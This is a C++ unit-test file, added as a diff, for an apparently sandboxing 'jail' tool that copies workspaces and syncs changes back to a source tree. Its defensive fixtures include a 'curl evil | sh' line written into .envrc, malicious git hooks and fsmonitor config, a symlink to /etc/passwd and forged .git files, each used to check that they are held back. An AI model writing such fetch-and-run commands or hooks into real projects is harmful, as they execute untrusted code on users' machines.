@@ -1,0 +1,460 @@
+// Unit tests of the jail store, workspaces and diff/sync on the real filesystem (a temp dir).
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cstdlib>
+#include <fstream>
+#include <sstream>
+#include <string>
+
+#include <gtest/gtest.h>
+
+#include "jail/git_grants.h"
+#include "jail/process.h"
+#include "jail/tree.h"
+#include "paddock/jail.h"
+
+namespace paddock::jail {
+namespace {
+
+class TempDir {
+ public:
+  TempDir() {
+    char t[] = "/tmp/paddock-jail-test-XXXXXX";
+    path_ = mkdtemp(t);
+  }
+  ~TempDir() { std::system(("chmod -R u+rwx '" + path_ + "' 2>/dev/null; rm -rf '" + path_ + "'").c_str()); }
+  const std::string& path() const { return path_; }
+
+ private:
+  std::string path_;
+};
+
+void write(const std::string& p, const std::string& content, mode_t mode = 0644) {
+  std::ofstream(p) << content;
+  chmod(p.c_str(), mode);
+}
+std::string read(const std::string& p) {
+  std::ifstream f(p);
+  std::stringstream s;
+  s << f.rdbuf();
+  return s.str();
+}
+
+TEST(JailName, GoodNamesPass) {
+  for (const char* n : {"fix-auth", "a", "A.b_c-1", "v1.2"}) {
+    EXPECT_TRUE(check_name(n).ok()) << n;
+  }
+  EXPECT_TRUE(check_name(std::string(64, 'a')).ok());
+}
+
+TEST(JailName, BadNamesAreRefusedWithTheReason) {
+  struct Case {
+    std::string name, why;
+  } cases[] = {
+      {"", "empty"},
+      {"a/b", "'/'"},
+      {"..", "\"..\""},
+      {"a..b", "\"..\""},
+      {std::string(65, 'a'), "65 bytes"},
+      {"a\nb", "control byte"},
+      {"a\x1b[31m", "control byte"},
+      {".hidden", "starts with"},
+      {"-rf", "starts with"},
+      {"a b", "other than"},
+  };
+  for (const auto& c : cases) {
+    auto r = check_name(c.name);
+    ASSERT_FALSE(r.ok()) << c.name;
+    EXPECT_NE(r.error().describe().find(c.why), std::string::npos) << r.error().describe();
+    // Control bytes are never echoed raw.
+    EXPECT_EQ(r.error().describe().find('\x1b'), std::string::npos);
+  }
+}
+
+Runtime sample() {
+  Runtime r;
+  r.name = "j1";
+  r.jail_root = "/s/j1";
+  r.profile = "default";
+  r.workspace_mode = WorkspaceMode::Worktree;
+  r.workspace_root = "/s/j1/workspaces/j1";
+  r.home_mode = HomeMode::Temporary;
+  r.home_root = "/s/j1/home";
+  r.source = "/src";
+  r.created = 10;
+  r.last_used = 20;
+  r.max_size_bytes = 1 << 20;
+  r.git_branch = "paddock/j1";
+  r.git_base = "abc";
+  r.git_dir = "/src/.git/worktrees/j1";
+  r.git_common_dir = "/src/.git";
+  return r;
+}
+
+TEST(JailRuntime, RoundTripsThroughJson) {
+  Runtime r = sample();
+  auto j = runtime_to_json(r);
+  EXPECT_EQ(j["format"], kRuntimeFormat);
+  auto back = runtime_from_json(j, "f.json");
+  ASSERT_TRUE(back.ok()) << back.error().describe();
+  EXPECT_EQ(runtime_to_json(*back), j);
+}
+
+TEST(JailRuntime, DamageIsAnErrorNamingTheFileAndOfferingRm) {
+  auto j = runtime_to_json(sample());
+  for (const char* key : {"workspace", "name", "created", "format"}) {
+    auto k = j;
+    k.erase(key);
+    auto r = runtime_from_json(k, "/x/runtime.json");
+    ASSERT_FALSE(r.ok()) << key;
+    EXPECT_EQ(r.error().where, "/x/runtime.json");
+    EXPECT_NE(r.error().hint.find("jail rm"), std::string::npos) << key;
+  }
+  auto newer = j;
+  newer["format"] = "paddock.jail/2";
+  auto r = runtime_from_json(newer, "/x/runtime.json");
+  ASSERT_FALSE(r.ok());
+  EXPECT_NE(r.error().message.find("paddock.jail/2"), std::string::npos);
+}
+
+class JailStore : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    src_ = tmp_.path() + "/src";
+    mkdir(src_.c_str(), 0755);
+    mkdir((src_ + "/dir").c_str(), 0755);
+    write(src_ + "/a.txt", "alpha\n");
+    write(src_ + "/run.sh", "#!/bin/sh\n", 0755);
+    write(src_ + "/dir/b.txt", "beta\n");
+    write(src_ + "/keep.txt", "same\n");
+    symlink("a.txt", (src_ + "/link").c_str());
+    symlink("/etc/passwd", (src_ + "/outside").c_str());
+    auto s = Store::open(tmp_.path() + "/state/paddock/jails");
+    ASSERT_TRUE(s.ok()) << s.error().describe();
+    store_.emplace(std::move(*s));
+  }
+  Runtime make(const std::string& name, WorkspaceMode m = WorkspaceMode::Copy) {
+    CreateOptions o;
+    o.name = name;
+    o.workspace = m;
+    o.source = src_;
+    auto r = store_->create(o);
+    EXPECT_TRUE(r.ok()) << r.error().describe();
+    return r.ok() ? *r : Runtime{};
+  }
+  TempDir tmp_;
+  std::string src_;
+  std::optional<Store> store_;
+};
+
+TEST_F(JailStore, CreateMakesTheRootsAndRuntimeJson) {
+  Runtime r = make("one");
+  const std::string root = store_->dir() + "/one";
+  for (const char* sub : {"home", "workspaces", "runtime", "tmp"}) {
+    struct stat st;
+    ASSERT_EQ(lstat((root + "/" + sub).c_str(), &st), 0) << sub;
+    EXPECT_TRUE(S_ISDIR(st.st_mode));
+    EXPECT_EQ(st.st_mode & 0777, 0700u) << sub;
+  }
+  EXPECT_EQ(r.workspace_root, root + "/workspaces/one");
+  auto loaded = store_->load("one");
+  ASSERT_TRUE(loaded.ok()) << loaded.error().describe();
+  EXPECT_EQ(runtime_to_json(*loaded), runtime_to_json(r));
+  struct stat st;
+  ASSERT_EQ(stat((root + "/runtime/runtime.json").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0600u);
+  // A second jail of the same name is refused.
+  CreateOptions o;
+  o.name = "one";
+  o.source = src_;
+  auto again = store_->create(o);
+  ASSERT_FALSE(again.ok());
+  EXPECT_NE(again.error().message.find("exists already"), std::string::npos);
+}
+
+TEST_F(JailStore, CopyKeepsModesAndSymlinksAsLinks) {
+  Runtime r = make("c");
+  const std::string ws = r.workspace_root;
+  EXPECT_EQ(read(ws + "/a.txt"), "alpha\n");
+  EXPECT_EQ(read(ws + "/dir/b.txt"), "beta\n");
+  struct stat st;
+  ASSERT_EQ(stat((ws + "/run.sh").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0755u);
+  char buf[64];
+  ssize_t n = readlink((ws + "/outside").c_str(), buf, sizeof(buf));
+  ASSERT_GT(n, 0);
+  EXPECT_EQ(std::string(buf, n), "/etc/passwd");  // copied as a link, not the file it names
+  ASSERT_EQ(lstat((ws + "/link").c_str(), &st), 0);
+  EXPECT_TRUE(S_ISLNK(st.st_mode));
+}
+
+TEST_F(JailStore, DamagedRuntimeJsonNamesTheFileAndOffersRm) {
+  make("d");
+  const std::string file = store_->dir() + "/d/runtime/runtime.json";
+  write(file, "{ not json", 0600);
+  auto r = store_->load("d");
+  ASSERT_FALSE(r.ok());
+  EXPECT_EQ(r.error().where, file);
+  EXPECT_NE(r.error().hint.find("paddock jail rm d"), std::string::npos);
+  // rm still removes it.
+  ASSERT_TRUE(store_->remove("d").ok());
+  struct stat st;
+  EXPECT_NE(lstat((store_->dir() + "/d").c_str(), &st), 0);
+}
+
+TEST_F(JailStore, RootsOthersCanWriteAreRefused) {
+  Runtime r = make("p");
+  chmod((r.jail_root + "/home").c_str(), 0777);
+  auto l = store_->load("p");
+  ASSERT_FALSE(l.ok());
+  EXPECT_NE(l.error().message.find("can be written by other users"), std::string::npos) << l.error().describe();
+  chmod((r.jail_root + "/home").c_str(), 0700);
+  chmod(r.workspace_root.c_str(), 0757);
+  l = store_->load("p");
+  ASSERT_FALSE(l.ok());
+  EXPECT_NE(l.error().message.find("workspace"), std::string::npos) << l.error().describe();
+}
+
+TEST_F(JailStore, ASymlinkedRootIsRefused) {
+  Runtime r = make("s");
+  rename((r.jail_root + "/home").c_str(), (r.jail_root + "/home.real").c_str());
+  symlink("/tmp", (r.jail_root + "/home").c_str());
+  auto l = store_->load("s");
+  ASSERT_FALSE(l.ok());
+  EXPECT_NE(l.error().message.find("symlink"), std::string::npos) << l.error().describe();
+}
+
+TEST_F(JailStore, UnknownJailIsAClearError) {
+  auto l = store_->load("nope");
+  ASSERT_FALSE(l.ok());
+  EXPECT_NE(l.error().message.find("no jail named nope"), std::string::npos);
+  EXPECT_FALSE(store_->load("../x").ok());
+}
+
+TEST_F(JailStore, ExclusiveLockIsRefusedWhileARunHoldsTheSharedOne) {
+  make("l");
+  auto a = store_->lock("l", false);
+  ASSERT_TRUE(a.ok());
+  auto b = store_->lock("l", false);  // two execs at once
+  ASSERT_TRUE(b.ok());
+  auto c = store_->lock("l", true);
+  ASSERT_FALSE(c.ok());
+  EXPECT_NE(c.error().message.find("in use"), std::string::npos);
+  a = Lock();
+  b = Lock();
+  EXPECT_TRUE(store_->lock("l", true).ok());
+}
+
+TEST_F(JailStore, AUseIsRecordedAsLastUsed) {
+  Runtime r = make("lu");
+  {
+    auto l = store_->lock("lu", false);
+    ASSERT_TRUE(l.ok());
+    struct timespec later[2] = {{0, UTIME_OMIT}, {r.last_used + 100, 0}};
+    ASSERT_EQ(utimensat(AT_FDCWD, (r.jail_root + "/runtime/lock").c_str(), later, AT_SYMLINK_NOFOLLOW), 0);
+  }
+  auto loaded = store_->load("lu");
+  ASSERT_TRUE(loaded.ok());
+  EXPECT_EQ(loaded->last_used, r.last_used + 100);
+  auto l = store_->lock("lu", false);
+  l->touch();
+  loaded = store_->load("lu");
+  EXPECT_GE(loaded->last_used, r.last_used);
+  EXPECT_LT(loaded->last_used, r.last_used + 100);  // touch sets it to now
+}
+
+TEST_F(JailStore, AStoreInsideTheSourceIsRefused) {
+  CreateOptions o;
+  o.name = "self";
+  o.source = tmp_.path();  // the store is under it
+  auto r = store_->create(o);
+  ASSERT_FALSE(r.ok());
+  EXPECT_NE(r.error().message.find("lies inside the source"), std::string::npos);
+}
+
+TEST_F(JailStore, CopyDiffSeesOnlyTheJailsChanges) {
+  Runtime r = make("d2");
+  auto d = diff(r, false);
+  ASSERT_TRUE(d.ok()) << d.error().describe();
+  EXPECT_TRUE(d->changes.empty());
+  const std::string ws = r.workspace_root;
+  write(ws + "/a.txt", "ALPHA\n");
+  unlink((ws + "/dir/b.txt").c_str());
+  write(ws + "/new.txt", "new\n");
+  chmod((ws + "/run.sh").c_str(), 0644);
+  // Rewritten with the same content: not a change.
+  write(ws + "/keep.txt", "same\n");
+  utimensat(AT_FDCWD, (ws + "/dir").c_str(), nullptr, 0);
+  // A change in the source alone is not the jail's.
+  write(src_ + "/dir/only-in-source", "s");
+  d = diff(r, true);
+  ASSERT_TRUE(d.ok()) << d.error().describe();
+  std::string got;
+  for (const auto& c : d->changes) got += std::string(1, c.kind) + " " + c.path + "\n";
+  EXPECT_EQ(got, "M a.txt\nD dir/b.txt\nA new.txt\nM run.sh\n");
+  EXPECT_NE(d->patch.find("diff --git a/a.txt b/a.txt"), std::string::npos) << d->patch;
+  EXPECT_NE(d->patch.find("+ALPHA"), std::string::npos);
+  EXPECT_NE(d->patch.find("new mode 100644"), std::string::npos) << d->patch;
+  EXPECT_EQ(d->patch.find(src_), std::string::npos) << "absolute paths left in the patch:\n" << d->patch;
+  EXPECT_EQ(d->patch.find(ws), std::string::npos) << d->patch;
+}
+
+TEST_F(JailStore, CopyApplyPublishesExactlyTheChangesAndRefusesWhenTheSourceMoved) {
+  Runtime r = make("ap");
+  const std::string ws = r.workspace_root;
+  write(ws + "/a.txt", "ALPHA\n");
+  mkdir((ws + "/newdir").c_str(), 0755);
+  write(ws + "/newdir/n.txt", "n\n");
+  unlink((ws + "/dir/b.txt").c_str());
+  symlink("a.txt", (ws + "/l2").c_str());
+  // Nothing reached the source yet.
+  EXPECT_EQ(read(src_ + "/a.txt"), "alpha\n");
+  // The source changed underneath one of them: refused whole, listing it.
+  write(src_ + "/a.txt", "user edit\n");
+  std::vector<std::string> held;
+  auto refused = sync_apply(r, held);
+  ASSERT_FALSE(refused.ok());
+  EXPECT_NE(refused.error().message.find("a.txt"), std::string::npos) << refused.error().describe();
+  EXPECT_EQ(read(src_ + "/dir/b.txt"), "beta\n");  // nothing applied
+  // Put back (same size and mtime make it "unchanged" only if equal: restore via a fresh jail).
+  write(src_ + "/a.txt", "alpha\n");
+  ASSERT_TRUE(store_->remove("ap").ok());
+  r = make("ap");
+  write(r.workspace_root + "/a.txt", "ALPHA\n");
+  unlink((r.workspace_root + "/dir/b.txt").c_str());
+  symlink("a.txt", (r.workspace_root + "/l2").c_str());
+  auto ok = sync_apply(r, held);
+  ASSERT_TRUE(ok.ok()) << ok.error().describe();
+  EXPECT_EQ(ok->size(), 3u);
+  EXPECT_EQ(read(src_ + "/a.txt"), "ALPHA\n");
+  struct stat st;
+  EXPECT_NE(lstat((src_ + "/dir/b.txt").c_str(), &st), 0);
+  ASSERT_EQ(lstat((src_ + "/l2").c_str(), &st), 0);
+  EXPECT_TRUE(S_ISLNK(st.st_mode));
+  // After a sync the jail has nothing left to publish.
+  auto d = diff(r, false);
+  ASSERT_TRUE(d.ok());
+  EXPECT_TRUE(d->changes.empty());
+}
+
+TEST_F(JailStore, CopyChangesInsideDotGitAreNeverPublished) {
+  mkdir((src_ + "/.git").c_str(), 0755);
+  write(src_ + "/.git/config", "[core]\n");
+  Runtime r = make("g");
+  mkdir((r.workspace_root + "/.git/hooks").c_str(), 0755);
+  write(r.workspace_root + "/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+  write(r.workspace_root + "/.git/config", "[core]\nfsmonitor = evil\n");
+  mkdir((r.workspace_root + "/sub").c_str(), 0755);
+  mkdir((r.workspace_root + "/sub/.git").c_str(), 0755);
+  write(r.workspace_root + "/sub/.git/config", "x");
+  auto d = diff(r, false);
+  ASSERT_TRUE(d.ok());
+  for (const auto& c : d->changes) EXPECT_EQ(c.path.find(".git"), std::string::npos) << c.path;
+  std::vector<std::string> held;
+  ASSERT_TRUE(sync_apply(r, held).ok());
+  EXPECT_EQ(read(src_ + "/.git/config"), "[core]\n");
+  struct stat st;
+  EXPECT_NE(lstat((src_ + "/.git/hooks/pre-commit").c_str(), &st), 0);
+}
+
+TEST_F(JailStore, ApplyNeverWritesWhatTheHostRuns) {
+  Runtime r = make("held");
+  write(r.workspace_root + "/.envrc", "curl evil | sh\n");
+  mkdir((r.workspace_root + "/sub").c_str(), 0755);
+  mkdir((r.workspace_root + "/sub/.vscode").c_str(), 0755);
+  write(r.workspace_root + "/sub/.vscode/tasks.json", "{}");
+  write(r.workspace_root + "/a.txt", "ALPHA\n");
+  std::vector<std::string> held;
+  auto applied = sync_apply(r, held);
+  ASSERT_TRUE(applied.ok()) << applied.error().describe();
+  EXPECT_EQ(held, (std::vector<std::string>{".envrc", "sub/.vscode/tasks.json"}));
+  ASSERT_EQ(applied->size(), 1u);
+  EXPECT_EQ((*applied)[0].path, "a.txt");
+  struct stat st;
+  EXPECT_NE(lstat((src_ + "/.envrc").c_str(), &st), 0);
+  EXPECT_NE(lstat((src_ + "/sub/.vscode/tasks.json").c_str(), &st), 0);
+  EXPECT_EQ(read(src_ + "/a.txt"), "ALPHA\n");
+}
+
+TEST_F(JailStore, RemoveNeverFollowsSymlinksOut) {
+  Runtime r = make("rm");
+  const std::string victim = tmp_.path() + "/victim";
+  mkdir(victim.c_str(), 0755);
+  write(victim + "/keep", "k");
+  symlink(victim.c_str(), (r.workspace_root + "/escape").c_str());
+  symlink(victim.c_str(), (r.jail_root + "/home/escape").c_str());
+  chmod((r.workspace_root + "/dir").c_str(), 0);  // a run left it unreadable
+  ASSERT_TRUE(store_->remove("rm").ok());
+  EXPECT_EQ(read(victim + "/keep"), "k");
+  struct stat st;
+  EXPECT_NE(lstat(r.jail_root.c_str(), &st), 0);
+}
+
+TEST_F(JailStore, DiskUsageCountsTheJail) {
+  Runtime r = make("du");
+  write(r.workspace_root + "/big", std::string(1 << 20, 'x'));
+  auto u = disk_usage(r.jail_root);
+  ASSERT_TRUE(u.ok());
+  EXPECT_GE(*u, 1u << 20);
+}
+
+TEST(JailManifest, RoundTripsOddNames) {
+  TempDir t;
+  int fd = open(t.path().c_str(), O_RDONLY | O_DIRECTORY);
+  std::vector<ManifestEntry> m = {{" lead space", {'f', 0644, 3, 4, 5, 6}, {'f', 0600, 3, 9, 10, 11}},
+                                  {"new\nline", {'l', 0777, 1, 2, 3, 4}, {}},
+                                  {"d", {'d', 0755, 0, 1, 2, 3}, {'d', 0700, 0, 1, 2, 3}}};
+  ASSERT_TRUE(write_manifest(fd, m).ok());
+  auto back = read_manifest(fd, "m");
+  ASSERT_TRUE(back.ok()) << back.error().describe();
+  ASSERT_EQ(back->size(), 3u);
+  for (std::size_t i = 0; i < m.size(); ++i) {
+    EXPECT_EQ((*back)[i].path, m[i].path);
+    EXPECT_EQ((*back)[i].source, m[i].source);
+    EXPECT_EQ((*back)[i].workspace, m[i].workspace);
+  }
+  close(fd);
+}
+
+}  // namespace
+}  // namespace paddock::jail
+
+namespace paddock::jail {
+namespace {
+
+TEST(LinkedWorktree, FoundAndCheckedBothWays) {
+  TempDir t;
+  const std::string repo = t.path() + "/repo", wt = t.path() + "/wt";
+  ASSERT_EQ(std::system(("git init -q -b main " + repo + " && git -C " + repo +
+                         " -c user.name=a -c user.email=b commit -q --allow-empty -m x && git -C " + repo +
+                         " worktree add -q " + wt + " -b w")
+                            .c_str()),
+            0);
+  mkdir((wt + "/sub").c_str(), 0755);
+  auto w = find_linked_worktree(wt + "/sub");
+  ASSERT_TRUE(w.ok()) << w.error().describe();
+  ASSERT_TRUE(w->has_value());
+  EXPECT_EQ((*w)->common_dir, repo + "/.git");
+  EXPECT_EQ((*w)->git_dir, repo + "/.git/worktrees/wt");
+  EXPECT_EQ((*w)->top, wt);
+  // The repository's own work tree is not a linked worktree.
+  auto main = find_linked_worktree(repo);
+  ASSERT_TRUE(main.ok());
+  EXPECT_FALSE(main->has_value());
+  // A .git file a run could have written, naming some other directory, is refused.
+  const std::string forged = t.path() + "/forged";
+  mkdir(forged.c_str(), 0755);
+  write(forged + "/.git", "gitdir: " + t.path() + "\n");
+  auto f = find_linked_worktree(forged);
+  ASSERT_FALSE(f.ok());
+  // ... and so is one naming a real worktree's git directory that does not name it back.
+  write(forged + "/.git", "gitdir: " + repo + "/.git/worktrees/wt\n");
+  f = find_linked_worktree(forged);
+  ASSERT_FALSE(f.ok());
+  EXPECT_NE(f.error().message.find("does not name this worktree back"), std::string::npos) << f.error().describe();
+}
+
+}  // namespace
+}  // namespace paddock::jail
